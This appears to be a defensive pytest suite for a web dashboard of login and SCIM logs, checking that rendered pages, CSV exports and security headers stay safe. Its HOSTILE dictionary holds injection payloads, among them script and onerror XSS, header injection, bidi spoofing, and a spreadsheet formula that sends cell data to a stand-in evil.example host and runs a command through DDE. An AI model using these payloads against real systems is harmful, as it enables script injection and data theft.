"""Anyone on the internet can write into these logs. What they write is shown, and is never anything but text."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest

from dashboard.page import cells
from logsync.characters import visible
from logsync.models import Account, ApiToken, IdentityProvider, Log, PersonAtApp, Stream, SyncRun
from tests.conftest import NOW
from tests.dashboard.reading import Page, page_of, records_of, shown
from tests.dashboard.test_fields import LOGINS, SCIM

HARMLESS = "a@b"
# It is written from right to left.
HEBREW = "\u05d0"
HOSTILE = {
    "element": "<script>alert(1)</script>@<img src=x onerror=alert(1)>",
    "attribute": "\"'><b>x</b>@ onmouseover=alert(1) style=color:red x=\"'`",
    "closing": "</td></tr></table></pre></bdi></script></style></title></textarea>@--><!--",
    "template": "{{ request.user.password }}{% debug %}@{# #}",
    "entity": "&lt;script&gt;&amp;&#60;b&#62;@&quot;",
    "link": "javascript:alert(1)//@data:text/html,<script>",
    "direction": "\u202e\u2066moc.live@\u202dgnp.exe\u2028",
    "lines": "a\r\nSet-Cookie: x=1\n\n@<b>\t",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")@+cmd|\' /C calc\'!A0',
    "long": "@" + "<b>😀\u202e" * 200,
    "query": "?open=1&after=x#y@%00%3Cb%3E;a=b",
}
in_both_logs = pytest.mark.parametrize("log", [LOGINS, SCIM], ids=["logins", "scim"])


def everything_of(log):
    return f"{log.page}?{log.anything}&columns=" + ",".join(log.table.base_columns)


@pytest.fixture
def row(account):
    """A row with a text in every field, in every column, and in a field that nobody knows yet."""

    def make(log, text):
        return log.make(account=account, extra={"news": text, text: [text]}, **dict.fromkeys(log.texts, text))

    return make


@pytest.fixture
def page(signed_in):
    return lambda path, **query: page_of(signed_in.get(path, query))


@in_both_logs
def test_hostile_rows_keep_list_structure(log, row, page, monkeypatch):
    # Facets have a line for each value that differs.
    monkeypatch.setattr("dashboard.lists.views.facets_of", lambda *_: None)
    harmless = [row(log, HARMLESS) for _ in HOSTILE]
    skeleton = page(everything_of(log)).skeleton
    log.model.objects.filter(pk__in=[one.pk for one in harmless]).delete()
    for text in HOSTILE.values():
        row(log, text)
    seen = page(everything_of(log))
    assert seen.skeleton == skeleton
    assert all(shown(text) in seen.whole.text_as_it_is for text in HOSTILE.values())


@in_both_logs
def test_values_in_facets_are_never_markup(log, row, page):
    # As many values as below, so that a facet has as much to say of them.
    for number in range(len(HOSTILE)):
        row(log, f"{HARMLESS}{number}")
    known = set(page(everything_of(log)).skeleton)
    for text in HOSTILE.values():
        row(log, text)
    seen = page(everything_of(log))
    assert set(seen.skeleton) <= known
    assert seen.misplaced == []


@in_both_logs
@pytest.mark.parametrize("headers", [{}, {"HX-Request": "true"}], ids=["own page", "htmx"])
def test_hostile_event_keeps_page_structure(log, headers, row, signed_in):
    def page(text):
        return page_of(signed_in.get(row(log, text).get_absolute_url(), headers=headers))

    for name, text in HOSTILE.items():
        seen = page(text)
        # As long, since long bodies are folded.
        assert seen.skeleton == page(HARMLESS.ljust(len(text), "x")).skeleton, name
        assert shown(text) in seen.whole.text_as_it_is


def test_hostile_body_keeps_page_structure(make_update, page):
    # Without an id there is no history, and without an address no verdict, in which the others would show.
    nobody = dict.fromkeys(("cf_resource_id", "idp_resource_id", "resource_user_email"), "")

    def make(text):
        return make_update(request_body=json.dumps({"a": text}), **nobody).get_absolute_url()

    # A long body is cut, and the page leads to the whole of it.
    paths = {name: (make(text), make("x" * len(json.dumps(text)))) for name, text in HOSTILE.items()}
    for name, (hostile, harmless) in paths.items():
        seen = page(hostile)
        assert seen.skeleton == page(harmless).skeleton, name
        assert json.dumps(HOSTILE[name])[:10_000] in seen.whole.text_as_it_is


def test_hostile_app_names_keep_page_structure(make_login, page):
    harmless = [make_login(app_name=f"{HARMLESS} {name}", app_uid=name) for name in HOSTILE]
    skeleton = page("/logins/by-app/").skeleton
    for login in harmless:
        login.delete()
    PersonAtApp.objects.all().delete()
    for text in HOSTILE.values():
        # An id that begins or ends with a blank, or is longer, has no address, and so no links.
        make_login(app_name=text, app_uid=text.strip()[:200].strip())
    seen = page("/logins/by-app/")
    assert seen.skeleton == skeleton
    assert all(shown(text) in seen.whole.text_as_it_is for text in HOSTILE.values())


@pytest.fixture
def directory(db):
    """Name everything that has a name, and say a text wherever something went wrong."""
    token = ApiToken.objects.create(fingerprint="a", blocked_until=NOW + timedelta(minutes=4))
    account = Account.objects.create(account_id="1" * 32, api_token=token)
    application = account.applications.create(app_uid="a")
    idp = IdentityProvider.objects.create(account=account, idp_id="okta", scim_enabled=True)
    stream = Stream.objects.create(
        account=account, log=Log.SCIM_UPDATES, idp_id="okta", backfill_since=NOW, error_since=NOW
    )
    # One with holes, time about to expire, a backfill and late rows, and no error to hide them.
    idp_of_other = IdentityProvider.objects.create(account=account, idp_id="entra", scim_enabled=True)
    other = Stream.objects.create(
        account=account, log=Log.SCIM_UPDATES, idp_id="entra", backfill_since=NOW - timedelta(days=5)
    )
    failed = other.failed_ranges.create(
        since=NOW - timedelta(days=5), until=NOW - timedelta(days=2), failed_at=NOW, retry_at=NOW
    )
    asked = other.asked_ranges.create(since=NOW - timedelta(days=9), until=NOW - timedelta(days=8), asked_at=NOW)
    other.lateness_counts.create(day=NOW.date(), seconds=5000, count=100)
    run = SyncRun.objects.create(stream=stream, started_at=NOW, since=NOW, until=NOW, outcome=SyncRun.Outcome.FAILED)

    def say(text):
        account.name = account.providers_error = account.applications_error = text
        application.name = idp.name = idp_of_other.name = stream.error = run.error = failed.error = token.error = text
        token.name, asked.asked_by = text[:64], text[:150]
        for said in (account, application, idp, idp_of_other, stream, run, failed, token, asked):
            said.save()

    return say


@pytest.mark.parametrize("path", ["/sync/", "/logins/", "/scim/"])
def test_hostile_directory_keeps_page_structure(path, directory, page):
    directory(HARMLESS)
    skeleton = page(path).skeleton
    for name, text in HOSTILE.items():
        directory(text)
        seen = page(path)
        assert seen.skeleton == skeleton, name
        # An option of a form can hold no boxes.
        assert {text for text in (shown(text), visible(text)) if text in seen.whole.text_as_it_is}


@pytest.mark.parametrize("path", ["/logins/", "/logins/by-app/", "/scim/", "/sync/"])
@pytest.mark.parametrize(
    "name", ["q", "app_uid", "idp_id", "account", "stream", "day", "head", "range", "columns", "sort", "colour"]
)
def test_hostile_query_string_keeps_page_structure(path, name, make_login, make_update, page):
    make_login()
    make_update()
    hostile = HOSTILE["element"] + HOSTILE["attribute"] + HOSTILE["closing"] + HOSTILE["template"]
    assert page(path, **{name: hostile}).skeleton == page(path, **{name: "xx"}).skeleton


@in_both_logs
def test_export_cells_are_never_formulas(log, row, signed_in):
    for text in HOSTILE.values():
        one = row(log, text)
        [record] = records_of(signed_in.get(f"{log.export}?{log.anything}"))
        assert {record[name] for name in log.texts} <= {text, f"'{text}"}
        assert not record[log.texts[0]].lstrip().startswith(("=", "+", "-", "@"))
        assert json.loads(record["extra"]) == {"news": text, text: [text]}
        one.delete()


def isolated(page: Page, mark: str) -> int:
    """How often a mark stands where it cannot reach beyond: isolated, or where a browser isolates by itself."""
    return sum(
        "".join(element.pieces).count(mark)
        for element in page.elements
        if element.tag in ("bdi", "option") or element.attrs.get("dir") == "ltr"
    )


@in_both_logs
def test_text_of_other_direction_is_isolated(log, row, signed_in):
    one = row(log, HEBREW)
    page = page_of(signed_in.get(f"{everything_of(log)}&open={one.key.hex}&q=%D7%90"))
    assert page.text.count(HEBREW) == isolated(page, HEBREW) > 20


@in_both_logs
def test_direction_marks_are_only_codes(log, row, signed_in):
    one = row(log, "a\u202eb")
    page = page_of(signed_in.get(f"{everything_of(log)}&open={one.key.hex}&q=%E2%80%AE"))
    assert page.text.count("aU+202Eb") > 20
    assert "\u202e" not in page.text
    read = [element.attrs.get(name) or "" for element in page.elements for name in ("title", "aria-label")]
    assert "\u202e" not in "".join(read)


@pytest.mark.parametrize(
    "path",
    ["/logins/by-app/", "/sync/", "/sync/?stream=%D7%90", "/logins/?colour=%D7%90", "/logins/?user_email=nobody"],
)
def test_hostile_text_is_isolated_elsewhere(path, account, make_login, make_stream, fail, signed_in):
    Account.objects.update(name=HEBREW)
    make_login(app_name=HEBREW, app_uid=HEBREW)
    ApiToken.objects.create(fingerprint="a", name=HEBREW, error=HEBREW)
    make_stream(error=HEBREW, error_since=NOW)
    fail(make_stream(Log.SCIM_UPDATES, HEBREW), NOW - timedelta(days=3), NOW, error=HEBREW)
    page = page_of(signed_in.get(path))
    assert page.text.count(HEBREW) == isolated(page, HEBREW) > 0


@pytest.mark.parametrize("cell", [cells.text, cells.method, cells.address, cells.person, cells.resource_type])
def test_huge_text_is_cut_in_cells(cell):
    shown = cell("<\u202e@>" * 250_000)
    assert "(the first 5,000 of 1,000,000 characters)" in shown
    assert len(shown) < 20_000


# What the browser is told to do with all this


PAGES = ["/logins/", "/logins/?q=<script>", "/logins/?range=5y", "/logins/by-app/", "/scim/", "/sync/", "/nowhere/"]


@pytest.mark.parametrize("path", [*PAGES, "/logins.csv", "/logins.csv?range=5y", "/sign-in/", "/healthz"])
def test_every_response_forbids_inline_code(path, make_login, signed_in):
    make_login()
    policy = signed_in.get(path)["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
    assert directives["default-src"] == "'none'"
    assert directives["script-src"] == directives["style-src"] == "'self'"
    assert directives["base-uri"] == directives["frame-ancestors"] == "'none'"
    assert "unsafe" not in policy


@pytest.mark.parametrize("path", [*PAGES, "/sign-in/", "{login}", "{update}", "/logins/?open={key}"])
def test_no_page_has_inline_code(path, make_login, make_update, make_stream, signed_in):
    make_stream(error="x", error_since=NOW, retry_at=NOW + timedelta(hours=1))
    login, update = make_login(), make_update()
    urls = {"login": login.get_absolute_url(), "update": update.get_absolute_url(), "key": login.key.hex}
    if path == "/sign-in/":
        signed_in.logout()
    page = page_of(signed_in.get(path.format(**urls)))
    assert page.elements
    assert not page.misplaced
    assert not page.all("style")
    scripts = [script for script in page.all("script") if script.attrs.get("type") != "application/json"]
    assert all(script.attrs.get("src") and not script.text for script in scripts)
    names = {name for element in page.elements for name in element.attrs}
    assert not {name for name in names if name == "style" or name.startswith(("on", "hx-on"))}
    assert all(not link.href or link.href[0] in "/?#" for link in page.elements)


@pytest.mark.parametrize(
    ("header", "value"),
    [("X-Content-Type-Options", "nosniff"), ("X-Frame-Options", "DENY"), ("Referrer-Policy", "same-origin")],
)
def test_every_response_has_security_headers(header, value, account, signed_in):
    for path in ("/logins/", "/logins.csv", "/sign-in/"):
        assert signed_in.get(path)[header] == value
